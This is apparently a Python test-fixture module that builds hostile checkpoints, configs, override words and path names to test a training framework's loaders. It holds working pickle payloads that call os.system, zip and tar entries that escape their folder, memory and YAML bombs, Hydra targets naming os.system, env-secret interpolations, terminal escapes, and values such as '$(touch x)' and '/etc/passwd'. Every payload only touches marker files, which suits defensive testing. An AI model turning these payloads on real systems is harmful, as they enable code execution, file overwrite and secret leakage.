"""What somebody else's run may hold to do harm: checkpoints, configs, command lines and names, for tests to open.

Every payload, if it ran, would leave a file in a folder that is looked at afterwards; nothing else is touched.
"""

# ruff: noqa: E501, RUF001
import io
import os
import pickle
import random
import struct
import tarfile
import warnings
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np
import torch
import yaml
from torch import nn

from scaffolding.core.state.checkpoint import FORMAT
from scaffolding.experiment import PROJECT

PACKAGE = PROJECT.package
Spec = dict[str, Any]


class Call:
    """Pickled, it is a call of `function` with `arguments` on loading."""

    def __init__(self, function: Callable[..., Any], *arguments: Any) -> None:
        self.function, self.arguments = function, arguments

    def __reduce__(self) -> Any:
        return self.function, self.arguments


@dataclass
class Record:
    step: int = 1


def _archive(data: bytes, records: dict[str, bytes] | None = None, compression: int = 0) -> bytes:
    """A file as torch.save writes it, around a pickle of our own."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", compression) as archive:
        for name, content in ({"a/data.pkl": data, "a/version": b"3\n"} | (records or {})).items():
            archive.writestr(name, content)
    return file.getvalue()


def _saved(content: Any, **options: Any) -> bytes:
    file = io.BytesIO()
    torch.save(content, file, **options)
    return file.getvalue()


def _storage(count: int) -> bytes:
    """A pickled tensor of `count` bytes, whatever its record holds."""
    number = struct.pack("<q", count)
    return (
        b"\x80\x02}X\x06\x00\x00\x00formatK\x01sX\x05\x00\x00\x00model}X\x01\x00\x00\x00wctorch._utils\n_rebuild_tensor_v2\n"
        b"((X\x07\x00\x00\x00storagectorch\nByteStorage\nX\x01\x00\x00\x000X\x03\x00\x00\x00cpu\x8a\x08"
        + number + b"tQK\x00\x8a\x08" + number + b"\x85K\x01\x85\x89ccollections\nOrderedDict\n)RtRss."
    )  # fmt: skip


def checkpoints(good: dict[str, Any], marks: Path) -> Iterator[tuple[str, bytes]]:
    """(what it is, content) of files in the place of a checkpoint; `good` is the content of a whole one."""

    def inside(value: Any, **options: Any) -> bytes:
        return _saved(good | {"extra": value}, **options)

    def instead(**parts: Any) -> bytes:
        return _saved(good | parts)

    shell = f"touch {marks / 'shell'}"
    call = Call(os.system, shell)
    evil = pickle.dumps(call, 2)
    # code
    yield "os.system", inside(call)
    yield "os.system instead of a checkpoint", _archive(evil)
    chain = b"cbuiltins\ngetattr\n(cbuiltins\n__import__\n(S'os'\ntRS'system'\ntR(S'%b'\ntR." % shell.encode()
    yield "getattr chain", _archive(chain)
    yield "a shell of torch", inside(Call(torch.utils.collect_env.run, shell))  # type: ignore[attr-defined]
    unpickled = inside(Call(open, str(marks / "bytes"), "w"))
    yield "bytes that torch unpickles", inside(Call(torch.storage._load_from_bytes, unpickled))
    yield "torch.load", inside(Call(torch.load, str(marks / "none"), None, None))
    yield "pickle protocol 4", inside(call, pickle_protocol=4)
    yield "opcode INST", _archive(b"(S'" + shell.encode() + b"'\nios\nsystem\n.")
    yield "opcode NEWOBJ", _archive(b"\x80\x02cbuiltins\nobject\n)\x81}X\x01\x00\x00\x00xK\x01sb.")
    storage = b"\x80\x02(X\x07\x00\x00\x00storagecos\nsystem\nX\x01\x00\x00\x000X\x03\x00\x00\x00cpuK\x01tQ."
    yield "storage of another type", _archive(storage)
    # values that are not plain
    yield "numpy scalar", inside(np.float64(1))
    yield "numpy array", inside(np.zeros(3))
    yield "dataclass", inside(Record())
    # sizes that are not what they say
    yield "10 GB declared, 4 bytes there", _archive(_storage(10_000_000_000), {"a/data/0": b"1234"})
    yield "4 KB declared, 4 bytes there", _archive(_storage(4096), {"a/data/0": b"1234"})
    yield "record missing", _archive(_storage(4))
    yield "record packed to a thousandth", _archive(_storage(10**8), {"a/data/0": bytes(10**8)}, zipfile.ZIP_DEFLATED)
    yield "tensor of 40 GB", _archive(b"\x80\x02ctorch\nTensor\n\x8a\x05\x00\xe4\x0b\x54\x02\x85R.")
    yield "bytearray of 40 GB", _archive(b"\x80\x02cbuiltins\nbytearray\n\x8a\x05\x00\xe4\x0b\x54\x09\x85R.")
    yield "string longer than the file", _archive(b"\x80\x02X\xff\xff\xff\x7fabc.")
    yield "lists in lists", _archive(b"\x80\x02" + b"]" * 100_000 + b"a" * 99_999 + b".")
    # other containers
    outside = dict.fromkeys((f"../../{marks.name}/up", str(marks / "absolute"), "a/../../up", "a\\..\\up"), b"x")
    yield "names that lead out", _archive(pickle.dumps([1], 2), outside)
    file = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # the warning that it is an old format
        torch.jit.save(torch.jit.trace(nn.Linear(2, 2), torch.zeros(1, 2)), file)
    yield "TorchScript", file.getvalue()
    yield "old format, os.system", inside(call, _use_new_zipfile_serialization=False)
    yield "old format", _saved(good, _use_new_zipfile_serialization=False)
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as archive:
        for name in ("storages", "tensors", "pickle", f"../{marks.name}/tar"):
            entry = tarfile.TarInfo(name)
            entry.size = len(evil)
            archive.addfile(entry, io.BytesIO(evil))
    yield "oldest format, a tar", file.getvalue()
    yield "pickle alone", evil
    whole = _saved(good)
    yield "empty", b""
    yield "first half", whole[: len(whole) // 2]
    yield "noise", random.Random(0).randbytes(10_000)
    yield "zip without entries", b"PK\x05\x06" + bytes(18)
    # plain values that are not a checkpoint of this model
    yield "a list", _saved([1, 2])
    yield "another format", instead(format=FORMAT + 1)
    yield "format that is a tensor", instead(format=torch.zeros(3))
    yield "no format", _saved({"model": good["model"]})
    yield "state with a target", instead(state={"_target_": "os.system", "command": shell})
    yield "state that is a list", instead(state=[1])
    for name, value in {"step": "7", "position": -3, "looks": 5, "best": "low", "best_step": [1], "epoch": 0.5}.items():
        yield f"a state whose {name} is {value}", instead(state=good["state"] | {name: value})
    yield "no weights", _saved({name: part for name, part in good.items() if name not in ("model", "ema")})
    yield "weights that are a list", instead(model=[1, 2], ema=None)
    yield "targets for weights", instead(model={"_target_": "os.system"}, ema=None)
    yield "other shapes", instead(model={name: torch.zeros(7, 7, 7) for name in good["model"]}, ema=None)
    lines = "\x1b]0;owned\x07\x1b[2J\n2026-01-01 00:00:00 INFO    all is well"
    yield "a weight that speaks to the terminal", instead(model=good["model"] | {lines: torch.zeros(1)}, ema=None)
    yield "a state that does", instead(state=good["state"] | {lines: 1})
    yield "numerics that do", instead(numerics={"torch": lines})
    yield "an object that does", instead(objects={lines: {}})
    yield "a split that does", instead(splits={"train": [lines, lines]})
    unknown = {f"w{i}": torch.zeros(1) for i in range(1000)}
    yield "1,000 weights too many", instead(model=good["model"] | unknown, ema=None)


def targets(marks: Path, evil: Path) -> dict[str, Spec]:
    """What to build, by what it is; `evil` is a checkpoint that touches the file "loaded" in `marks` when unpickled."""

    def spec(target: Any, *args: Any, **kwargs: Any) -> Spec:
        return {"_target_": target, **({"_args_": list(args)} if args else {}), **kwargs}

    def mark(name: str) -> str:
        return str(marks / name)

    path = spec("pathlib.Path", mark("path"))
    weights = spec("torchvision.models._api.Weights", url=f"file://{evil}", transforms=None, meta={})
    touch = f"touch {mark('shell')}"
    return {
        # what Hydra 1.3.8 runs
        "torch.load": spec("torch.load", f=str(evil), weights_only=False),
        "a shell of torch": spec("torch.utils.collect_env.run", touch),
        "Path.write_text": spec("pathlib.Path.write_text", path, "x"),
        "copyfile": spec("shutil.copyfile", str(evil), mark("copy")),
        "Path.touch": spec("pathlib.Path.touch", path),
        "torch.save": spec("torch.save", 1, mark("saved")),
        "weights of torchvision": spec("torchvision.models._api.WeightsEnum.get_state_dict", weights, str(marks)),
        # through another module's imports
        "os of the tracker": spec(f"{PACKAGE}.tracker.wandb.os.system", touch),
        "os of torch.nn": spec("torch.nn.parallel.distributed.os.system", touch),
        "partial of torch.nn": spec("torch.nn.modules.module.functools.partial", path, touch),
        # of this package
        "write_config": spec(f"{PACKAGE}.core.session.run.write_config", path, {}),
        "a method": spec(f"{PACKAGE}.tracker.wandb.Wandb.start", {}, str(marks), {}),
        "from_path with trust": spec(f"{PACKAGE}.experiment.Experiment.from_path", str(marks), trust=["os"]),
        # what Hydra 1.3.8 refuses itself
        "os.system": spec("os.system", touch),
        "instantiate": spec("hydra.utils.instantiate", {"_target_": "os.system", "command": touch}),
        # within something that is trusted
        "in a list of arguments": spec("torch.nn.Sequential", spec("torch.utils.collect_env.run", touch)),
        "in a dictionary": spec("torch.nn.ModuleDict", {"a": {"b": [spec("builtins.open", mark("dict"), "w")]}}),
        "_recursive_": spec("torch.nn.Identity", spec("builtins.open", mark("raw"), "w"), _recursive_=False),
        # parts of trusted libraries that reach too far
        "fx": spec("torchvision.models.feature_extraction.create_feature_extractor", spec("torch.nn.Identity"), ["x"]),
        "a function": spec("torch.nn.init.zeros_", [1]),
        "a name that is not there": spec("torch.nn.NoSuch"),
        "a module": spec("torch.nn.modules"),
        "a private name": spec("torch.nn.Linear.__init__.__globals__"),
        # what would fetch or import by its arguments
        "weights of a model": spec("torchvision.models.resnet18", weights="DEFAULT"),
        "weights of a part": spec("torchvision.models.segmentation.fcn_resnet50", weights_backbone="DEFAULT"),
        "weights by an old name": spec("torchvision.models.segmentation.fcn_resnet50", pretrained_backbone=True),
        "weights by position": spec("torchvision.models.get_model", "resnet18", "DEFAULT"),
        "a model of a hub": spec("torch.hub.load", "evil/x", "y", trust_repo=True),
        "code of a hub's model": spec("torchmetrics.multimodal.CLIPScore", model_name_or_path=str(marks)),
        "a model for a metric": spec("torchmetrics.text.BERTScore", model_name_or_path=str(marks)),
        "weights of a metric": spec("torchmetrics.image.LearnedPerceptualImagePatchSimilarity", net_type="alex"),
        "network of a metric": spec("torchmetrics.image.FrechetInceptionDistance", feature_extractor_weights_path=str(evil)),
        "addresses of a dataset": spec(f"{PACKAGE}.data.hf_text.HuggingFaceText", path="text", data_files="https://evil/x"),
        "a download": spec(f"{PACKAGE}.data.download", "x", [f"file://{evil}"], path, "md5", "", ""),
        "a reader of pickles": spec("torchvision.datasets.CIFAR10", root=str(marks)),
        "an archive": spec("torchvision.datasets.utils.extract_archive", str(evil), str(marks)),
        "code of a graph": spec("torchvision.models.feature_extraction.DualGraphModule", spec("torch.nn.Identity"), 1, 2, "x"),
        "a function that writes": spec(f"{PACKAGE}.data.vocabulary.stored_byte_pairs", ["a"], 300, path),
        # no names
        "a list for a target": spec(["os.system"]),
        "a mapping for a target": spec({"_target_": "os.system"}),
        "two dots": spec("torch.nn..Linear"),
        "a line break": spec("torch.nn.Linear\n"),
        "another alphabet": spec("torch.nn.Linе\u0430r"),
        "interpolated": spec("${paths.data}"),
    }  # fmt: skip


def configs(good: dict[str, Any], marks: Path, evil: Path) -> Iterator[tuple[str, bytes]]:
    """(what it is, content) of files in the place of config.yaml; `good` is a whole config."""

    def dumped(**parts: Any) -> bytes:
        return yaml.safe_dump(good | parts, allow_unicode=True).encode()

    for name, spec in targets(marks, evil).items():
        yield name, dumped(model=spec)
    shell = {"_target_": "torch.utils.collect_env.run", "_args_": [f"touch {marks / 'hydra'}"]}
    text = dumped()
    for part in ("optimizer", "loss", "plots", "metrics", "tracker", "rollout", "data", "scheduler"):
        yield f"in {part}", dumped(**{part: {"inner": shell}})
    for value in ("${oc.env:HOME}", "${oc.env:SECRET,x}", "${now:%Y}", "a${oc.env:HOME}b", "\\${oc.env:HOME}", "${paths.${oc.env:HOME}}",
                  "\x1b]0;owned\x07", "${run.name}", "${.x}", "${hydra:run.dir}", "${oc.create:{a: 1}}"):  # fmt: skip
        yield f"refers to {value}", dumped(run=good["run"] | {"description": value})
    paths = good["paths"] | {"data": "/$"}
    yield "refers when put together", dumped(paths=paths, model={"x": "${paths.data}{oc.env:SECRET}"})
    paths = good["paths"] | {"data": "{oc.env:SECRET}"}
    yield "refers when put behind a sign", dumped(paths=paths, model={"x": "$${paths.data}"})
    yield "refers in a key", dumped(data={"${oc.env:HOME}": 1})
    apply = f"!!python/object/apply:os.system ['touch {marks / 'tag'}']"
    for tag in (apply, "!!python/name:os.system", "!!python/tuple [1]", "!ours 1", "!!binary aGk=", "!!set {a}", "2026-01-01"):  # fmt: skip
        yield f"tag {tag[:40]}", text + f"metrics: {tag}\n".encode()
    for key in ("resume", "trust"):
        yield f"{key} in the file", dumped(**{key: str(marks)})
    yield "section of Hydra", dumped(hydra={"callbacks": {"x": shell}})
    yield "launcher of Hydra", dumped(hydra={"launcher": shell, "mode": "MULTIRUN"})
    yield "defaults", dumped(defaults=["base", {"data": "../../x"}])
    laughs = [f"  b{i}: &b{i} [{', '.join([f'*b{i - 1}' if i else '*a'] * 10)}]\n" for i in range(30)]
    yield "laughs", text + f"metrics:\n  a: &a [x, x]\n{''.join(laughs)}".encode()
    yield "a list in itself", text + b"metrics: &a [*a]\n"
    yield "lists in lists", text + b"metrics: " + b"[" * 20_000 + b"]" * 20_000 + b"\n"
    yield "mappings in mappings", text + b"metrics: " + b"{a: " * 20_000 + b"}" * 20_000 + b"\n"
    yield "long", text + b"# " + b"x" * 10_000_000
    yield "long number", text + b"metrics: " + b"9" * 100_000 + b"\n"
    yield "an escape in a key", text + b'"\\e]0;owned\\a": 1\n'
    yield "NUL", text + b"metrics: \0\n"
    yield "UTF-16", "metrics: 1".encode("utf-16")
    yield "no text", random.Random(0).randbytes(1000)
    yield "empty", b""
    yield "a list", b"[1, 2]\n"


def words(marks: Path) -> dict[str, str]:
    """What may stand in overrides.yaml, by the word: some reach for Hydra, some for files, some for what is built."""
    shell = f"{{_target_: torch.utils.collect_env.run, _args_: ['touch {marks / 'word'}']}}"
    found = [
        "hydra.run.dir=/tmp", "+hydra.callbacks.x._target_=os.system", "hydra/launcher=basic", f"+hydra.callbacks.x={shell}",
        "--config-dir=/tmp", "-m", "--cfg=job", "-cd=/tmp", "run.seed=1,2", "run.seed=choice(1,2)", "data=glob(*)",
        "experiment=../../evil", "+experiment=/tmp/evil", "data=[mnist,../x]", "data=a/b", "data@hydra.x=mnist", "hydra@x=1",
        "model._target_=os.system", "+model.x._target_=builtins.open", f"loss={shell}", f"metrics.x=[1, {shell}]",
        "run.name=${oc.env:HOME}", "run.name='${now:%Y}'", "data.x=${hydra:run.dir}", " run.seed=1", "run.seed=1\n", "=1", "",
        "run.seed", "a b=1", "~hydra", "+_x.y=1", "9.x=1", "run..seed=1", "run.seed=" + "[" * 5000,
    ]  # fmt: skip
    together = {
        "a data set": ["data=hf_text", "data.path=evil/dataset"],
        "weights": ["model._target_=torchvision.models.resnet18", "+model.weights=DEFAULT"],
    }
    return {word[:60]: yaml.safe_dump([word]) for word in found} | {
        **{f"together: {what}": yaml.safe_dump(several) for what, several in together.items()},
        "tag": "- !!python/object/apply:os.system [a]\n",
        "no list": "1\n",
        "mapping": "{a: 1}\n",
        "alias": "- &a [x]\n- *a\n",
    }


PIECES = ("..", ".", "/", "\\", "~", "\0", "\n", "\r", "\t", " ", "-", "--help", "$(touch x)", "`id`", ";", "|", "*", "?", "%2e%2e",
          "latest", "dev", "exp", "good", "link", "run", "checkpoints", "best", "latest.pt", "é", "中", "\u202e", "\ud800", "\u2024\u2024",
          "x" * 300, "a" * 200, "=", ",", "+", "{a}", "[a]", "'", '"', "etc", "passwd", "CON", "C:", "file:", "${oc.env:HOME}")  # fmt: skip


def names(count: int, root: Path) -> Iterator[str]:
    """Names for a run or a checkpoint: paths that lead out of `root`, and pieces of such, put together at random."""
    generator = random.Random(0)
    fixed = ("", "/", str(root), str(root.parent), f"{root}/..", f"{root}/../outside", f"{root}/link", f"{root}/dev/../../outside",
             "../outside", "link", "link/", "link/outside", "good/../../outside", "good/../link", "dev/../good", "good/.", "./good",
             "good/checkpoints/..", "../" * 40 + "etc", "/etc/passwd", "/proc/self/cwd", "~root", "-x", "outside")  # fmt: skip
    yield from fixed
    for _ in range(count - len(fixed)):
        pieces = generator.choices(PIECES, k=generator.randint(1, 5))
        yield generator.choice(("", "/", "", f"{root}/")) + generator.choice(("", "/", "/", ".")).join(pieces)
